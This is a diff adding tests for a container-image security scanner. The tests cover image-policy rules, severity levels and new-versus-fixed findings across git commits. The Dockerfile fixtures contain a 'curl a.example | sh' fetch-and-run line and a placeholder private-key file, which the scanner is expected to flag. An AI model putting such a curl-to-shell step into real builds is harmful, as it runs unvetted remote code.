@@ -206,6 +206,45 @@ def test_parts_of_a_scan(repository, strata, database):
     assert strata('scan', repository.path, '--only', 'deps,rest').status == 4
 
 
+def test_the_policy(repository, strata):
+    repository.write('Dockerfile', 'FROM registry.example/team/app:1\nFROM node:22-slim\nFROM quay.example/a/b:1\n'
+                                   'COPY --from=nginx:1.27 /a /b\nUSER 1\n')
+
+    def told(toml, *rules):
+        repository.write('strata.toml', toml)
+        report = strata('scan', repository.path, '--only', 'image', '-o', 'json').json
+        return {(f['id'], f['line'], f['severity']) for f in report['findings'] if f['id'] in rules}
+    assert ('IMG004', 3, 'low') in told('', 'IMG004')
+    assert told('[image]\nown = ["registry.example/*"]\nregistries = ["docker.io"]\n', 'IMG004') == {('IMG004', 3, 'high')}
+    assert told('[image]\nown = ["registry.example/*"]\nimages = ["node", "quay.example/a/*"]\n', 'IMG004') == {
+        ('IMG004', 4, 'high'), ('IMG004', 3, 'low')}
+    assert told('[image]\nmust-be-pinned = ["*"]\n', 'IMG003') == {('IMG003', n, 'high') for n in (1, 2, 3, 4)}
+    assert told('[image]\nmust-be-pinned = ["node"]\n', 'IMG003') >= {('IMG003', 2, 'high'), ('IMG003', 3, 'none')}
+    assert told('[image]\nmust-be-minimal = ["*"]\n', 'IMG008') == {('IMG008', 3, 'high')}
+    repository.write('strata.toml', '[image]\nmust-be-pined = ["*"]\n')
+    run = strata('scan', repository.path)
+    assert run.status == 4 and 'strata.toml: 2: ' in run.err and 'must-be-pined' in run.err
+
+
+def test_a_change_of_images(repository, strata):
+    repository.write('Dockerfile', 'FROM debian:12-slim\nCOPY src /a\nUSER 1\n').write('src/x', '').commit()
+    repository.write('Dockerfile', '# moved\nFROM debian:12-slim\nRUN curl a.example | sh\nCOPY src /a\nUSER 1\n').commit()
+    repository.write('src/id_rsa', '-----BEGIN OPENSSH PRIVATE KEY-----\nx\n').commit()
+
+    def told(change):
+        run = strata('diff', change, repository.path, '-o', 'json', '--db', 'starter')
+        return run.status, {(f['id'], f['state'], f['fails']) for f in run.json['findings'] if f['id'] in (
+            'IMG003', 'LAY008', 'LAY013')}
+    assert told('HEAD~2..HEAD~1') == (1, {('LAY008', 'new', True)})
+    assert told('HEAD~1..HEAD') == (1, {('LAY013', 'new', True)})
+    assert told('HEAD..HEAD~2') == (0, {('LAY008', 'fixed', False), ('LAY013', 'fixed', False)})
+    out = strata('diff', 'HEAD..HEAD~2', repository.path, '--db', 'starter').out
+    assert 'LAY013' in out.split('\nfixed\n')[1] and 'Dockerfile' in out
+    assert 'LAY008' in strata('diff', 'HEAD~2..HEAD', repository.path, '-o', 'markdown', '--db', 'starter').out
+    repository.git('rm', '-q', 'Dockerfile')
+    assert told('HEAD')[1] == set()
+
+
 def test_hostile(repository, strata):
     for n in range(40):
         repository.write(f'p{n}/package.json', json.dumps(PACKAGE))
